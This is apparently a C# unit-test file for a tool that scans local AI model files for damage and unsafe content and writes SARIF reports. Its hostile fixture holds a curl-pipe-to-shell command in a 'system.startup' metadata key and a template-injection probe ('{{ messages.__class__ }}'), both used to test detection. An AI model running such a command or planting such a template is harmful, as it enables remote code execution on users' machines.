using System.Text;
using System.Text.Json;
using Kandil.Core.Engines;
using Kandil.Core.Errors;
using Kandil.Core.Operations;
using Kandil.Core.Operations.Listing;
using Kandil.Core.Operations.Verification;
using Kandil.Core.Storage;
using Kandil.Tests.Unit.Fakes;

namespace Kandil.Tests.Unit.Core.Operations.Verification;

/// <summary>Models of the store, files and folders that are looked at: what is found, what is logged, what a report says.</summary>
public sealed class VerifyModelTests : IAsyncLifetime
{
    private static readonly GgufBuilder Sound = GgufBuilder.Chain("hello there");
    private static readonly GgufBuilder Hostile = Sound.Set("system.startup", "sh -c 'curl x | sh'").Template("{{ messages.__class__ }}");

    private readonly TemporarySession _session = new();

    public Task InitializeAsync() => Task.CompletedTask;

    public Task DisposeAsync() => _session.DisposeAsync().AsTask();

    [Fact]
    public async Task An_installed_model_is_read_looked_into_and_loaded()
    {
        await _session.ImportAsync(_session.Model(Sound), "mine");

        VerifiedModel found = await VerifyAsync("mine");

        Assert.True(found.Passed && found.IsWhole);
        Assert.Equal(("local/mine", LoadTestOutcome.Passed), (found.Name, found.LoadTest!.Outcome));
        Assert.Empty(found.Findings);
    }

    [Fact]
    public async Task A_damaged_model_is_not_loaded_its_file_is_named_and_a_repair_is_advised()
    {
        string path = (await _session.ImportAsync(_session.Model(Sound), "mine")).Model.Path;
        byte[] content = File.ReadAllBytes(path);
        content[^1] ^= 1;
        File.WriteAllBytes(path, content);

        VerifiedModel found = await VerifyAsync("mine");

        Assert.Equal(ErrorCode.Verify, found.Failure!.Code);
        Assert.Equal(ModelStatus.Damaged, new ListModels(_session.Session).Run().Single(model => model.Name == "local/mine").Status);
        Assert.Null(found.LoadTest);
        Assert.Equal(("damaged", path), (found.Findings.Single().Rule.Id, found.Findings.Single().Location.File));
        Assert.Equal("E_VERIFY", Logged("refused").Single().GetProperty("code").GetString());
    }

    [Fact]
    public async Task A_file_made_to_do_harm_is_refused_with_all_findings_and_never_loaded()
    {
        string path = _session.Model(Hostile);
        var sink = new ListeningSink();

        VerifiedModel found = Assert.Single(await new VerifyModel(_session.Session).RunAllAsync(new VerifyRequest(path), sink, default));

        Assert.Equal(ErrorCode.Unsafe, found.Failure!.Code);
        Assert.Equal(["suspicious-key", "template-private-name"], found.Findings.Select(finding => finding.Rule.Id).Order(StringComparer.Ordinal));
        Assert.All(found.Findings, finding => Assert.Equal(path, finding.Location.File));
        Assert.DoesNotContain(sink.Progress, progress => progress.Phase == "load-test");
        Assert.Empty(_session.Session.Store.List());
        Assert.Equal(path, Logged("refused").Single().GetProperty("subject").GetString());
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task What_only_the_engine_finds_is_found_where_it_is_asked(bool loads)
    {
        string path = _session.Model(GgufBuilder.Random().Set("llama.feed_forward_length", 7u));

        VerifiedModel found = (await new VerifyModel(_session.Session).RunAllAsync(
            new VerifyRequest(path) { LoadTest = loads }, SilentSink.Instance, default)).Single();

        Assert.Equal(!loads, found.Passed);
        Assert.Equal(loads ? LoadTestOutcome.Failed : null, found.LoadTest?.Outcome);
        Assert.Equal(loads ? [("load-test", path)] : [], found.Findings.Select(finding => (finding.Rule.Id, finding.Location.File)));
    }

    [Fact]
    public async Task A_folder_is_looked_at_model_by_model()
    {
        string folder = Directory.CreateDirectory(Path.Combine(_session.Folder, "all", "sub")).Parent!.FullName;
        _session.Model(Sound, "all/a.gguf");
        _session.Model(Hostile, "all/sub/B.GGUF");
        _session.Put("all/sub/eye.gguf", GgufShapes.All["companion"]);
        _session.Put("all/part-00001-of-00002.gguf", GgufShapes.Split()[0]);
        _session.Put("all/sub/model.safetensors", Encoding.ASCII.GetBytes("\u0001\0\0\0\u0001\0\0\0{}"));
        _session.Put("all/sub/weights.pkl", [0x80, 4]);
        _session.Put("all/read.me", [1]);

        var found = (await new VerifyModel(_session.Session).RunAllAsync(new VerifyRequest(folder), SilentSink.Instance, default))
            .ToDictionary(model => Path.GetRelativePath(folder, model.Name).Replace('\\', '/'), model => model);

        Assert.Equal(["a.gguf", "part-00001-of-00002.gguf", "sub", "sub/B.GGUF", "sub/eye.gguf"], found.Keys.Order(StringComparer.Ordinal));
        Assert.Equal(LoadTestOutcome.Passed, found["a.gguf"].LoadTest!.Outcome);
        Assert.Equal("shard-count", found["part-00001-of-00002.gguf"].Findings[0].Rule.Id);
        Assert.False(found["sub/B.GGUF"].Passed);
        Assert.True(found["sub/eye.gguf"] is { Passed: true, LoadTest: null });
        Assert.Equal(["safetensors", "runs-code"], found["sub"].Findings.Select(finding => finding.Rule.Id));
        Assert.Equal(ErrorCode.Unsafe, found["sub"].Failure!.Code);
    }

    [Fact]
    public async Task A_path_to_no_model_is_not_found_and_one_to_something_else_is_refused()
    {
        string empty = Directory.CreateDirectory(Path.Combine(_session.Folder, "empty")).FullName;
        string pickle = _session.Put("weights.bin", [0x80, 4, 0x95]);

        Assert.Equal(ErrorCode.NotFound, (await FailureAsync(new VerifyRequest(empty) { IsPath = true })).Code);
        Assert.Equal(ErrorCode.NotFound, (await FailureAsync(new VerifyRequest(Path.Combine(empty, "no.gguf")))).Code);
        Assert.Equal(ErrorCode.NotInstalled, (await FailureAsync(new VerifyRequest("never/heard-of"))).Code);
        Assert.Equal("not-gguf", (await VerifyAsync(pickle)).Findings.Single().Rule.Id);
    }

    [Fact]
    public async Task What_is_installed_as_it_is_and_would_be_refused_today_is_to_be_removed()
    {
        await _session.Session.Store.ImportAsync(
            new StoreImportRequest { Path = _session.Model(Hostile), Name = "local/old", Validate = (_, _) => Task.CompletedTask },
            SilentSink.Instance, default);

        VerifiedModel found = await VerifyAsync("old");

        Assert.True(found.IsWhole);
        Assert.Equal(ErrorCode.Unsafe, found.Failure!.Code);
        Assert.Equal(OperationNames.RemoveModel, found.Failure.RecommendedAction.Command!.Operation);
    }

    [Fact]
    public async Task The_report_has_every_finding_of_every_model_with_its_file()
    {
        VerifiedModel[] models = [await VerifyAsync(_session.Model(Hostile, "one # 1.gguf")), await VerifyAsync(_session.Model(Sound, "two.gguf"))];
        string report = WriteSarif.Run(Path.Combine(_session.Folder, "found.sarif"), models);

        using var json = JsonDocument.Parse(File.ReadAllText(report));
        JsonElement[] results = [.. json.RootElement.GetProperty("runs")[0].GetProperty("results").EnumerateArray()];
        Assert.Equal(["suspicious-key", "template-private-name"], results.Select(result => result.GetProperty("ruleId").GetString()).Order(StringComparer.Ordinal));
        Assert.All(results, result => Assert.EndsWith("one%20%23%201.gguf", result.GetProperty("locations")[0]
            .GetProperty("physicalLocation").GetProperty("artifactLocation").GetProperty("uri").GetString(), StringComparison.Ordinal));
        Assert.True(json.RootElement.GetProperty("runs")[0].GetProperty("invocations")[0].GetProperty("executionSuccessful").GetBoolean());
        Assert.Throws<KandilException>(() => WriteSarif.Run(Path.Combine(report, "below-a-file"), models));
    }

    [Fact]
    public void A_report_without_what_could_not_be_looked_at_says_that_it_failed()
    {
        string report = WriteSarif.Run(Path.Combine(_session.Folder, "found.sarif"), [], isWhole: false);

        using var json = JsonDocument.Parse(File.ReadAllText(report));
        Assert.False(json.RootElement.GetProperty("runs")[0].GetProperty("invocations")[0].GetProperty("executionSuccessful").GetBoolean());
    }

    [Fact]
    public async Task A_folder_named_without_its_path_is_pointed_to()
    {
        Directory.CreateDirectory(Path.Combine(_session.Folder, "strangers"));
        _session.Session.WorkingFolder = _session.Folder;

        var failure = await Assert.ThrowsAsync<KandilException>(() => VerifyAsync("strangers"));

        Assert.Equal((ErrorCode.NotInstalled, OperationNames.VerifyModel), (failure.Code, failure.RecommendedAction.Command!.Operation));
        Assert.Equal($".{Path.DirectorySeparatorChar}strangers", failure.RecommendedAction.Command.Arguments.Single());
    }

    [Fact]
    public async Task A_folder_with_nothing_that_can_be_looked_into_is_not_said_to_be_sound()
    {
        string folder = Directory.CreateDirectory(Path.Combine(_session.Folder, "pickles")).FullName;
        File.WriteAllBytes(Path.Combine(folder, "pytorch_model.bin"), [1, 2]);

        VerifiedModel found = await VerifyAsync(folder);

        Assert.False(found.IsRead);
        Assert.Equal("runs-code", found.Findings.Single().Rule.Id);
    }

    private async Task<VerifiedModel> VerifyAsync(string reference) =>
        Assert.Single(await new VerifyModel(_session.Session).RunAllAsync(new VerifyRequest(reference) { IsPath = Path.IsPathRooted(reference) }, SilentSink.Instance, default));

    private Task<KandilException> FailureAsync(VerifyRequest request) =>
        Assert.ThrowsAsync<KandilException>(() => new VerifyModel(_session.Session).RunAllAsync(request, SilentSink.Instance, default));

    private IEnumerable<JsonElement> Logged(string name) => File.ReadAllLines(_session.Session.Paths.AuditFile)
        .Select(line => JsonDocument.Parse(line).RootElement).Where(line => line.GetProperty("event").GetString() == name);
}
